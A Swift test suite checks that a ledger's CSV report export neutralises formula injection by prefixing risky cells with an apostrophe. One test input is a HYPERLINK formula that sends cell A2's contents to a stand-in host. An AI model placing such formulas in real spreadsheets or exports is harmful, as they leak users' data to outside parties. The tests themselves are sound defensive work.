import Ledger
import Projections
import Reports
import TestSupport
import Testing

/// CSV as a spreadsheet opens it.
struct ReportCSVTests {
  /// Returns the first cells of a report with one row.
  private func cells(_ row: [Report.Value]) async throws -> String {
    try await TestLedger.with { ledger in
      let report = try await ledger.reports.report(ReportRequest(.sales, of: TestLedger.bundleID))
      let text = ReportCSV.text(
        report.with(columns: row.indices.map { "c\($0)" }, rows: [row]))
      let line = text[try #require(text.firstRange(of: "\r\n")).upperBound...]
      let cut = try #require(line.firstRange(of: ",sales,com.example.game,"))
      return String(line[..<cut.lowerBound])
    }
  }

  @Test(arguments: [
    ("=1+1", "'=1+1"), ("+49", "'+49"), ("-1", "'-1"), ("@sum", "'@sum"), ("\t=1", "'\t=1"),
    ("\r=1", "\"'\r=1\""), ("\r\n=1", "\"'\r\n=1\""), ("\n=1", "\"'\n=1\""),
    (
      "=HYPERLINK(\"http://x.example/?\"&A2,\"open\")",
      "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A2,\"\"open\"\")\""
    ),
    ("'=1", "''=1"), ("a=1", "a=1"), ("1-2", "1-2"), ("", ""), (" =1", " =1"), ("玩家", "玩家"),
  ])
  func `a text that a spreadsheet would run is written as a text`(
    text: String, cell: String
  ) async throws {
    #expect(try await cells([.text(text)]) == cell)
  }

  @Test func `numbers below zero stay numbers`() async throws {
    let row: [Report.Value] = [
      .number(-1), .measure(-2), .money(-3_990), .balance(-4), .money(nil), .text(nil),
    ]
    #expect(try await cells(row) == "-1,-2,-3990,-4,,")
  }

  @Test func `an account that is named as a formula is a text in the list of refunds`()
    async throws
  {
    try await TestService.with { service in
      var months = PaidMonths("4000")
      months.refunded = Instant(day: "2025-01-20")
      months.product = "=1+1"
      try await service.ledger.record(months.events(1))
      try await service.ledger.project()
      let answer = try await service.get("/v1/reports/refunds?format=csv")
      #expect(answer.body.contains(",'=1+1,"), "\(answer.body)")
      let json = try await service.get("/v1/reports/refunds")
      #expect(json.body.contains("\"=1+1\""), "\(json.body)")
    }
  }
}
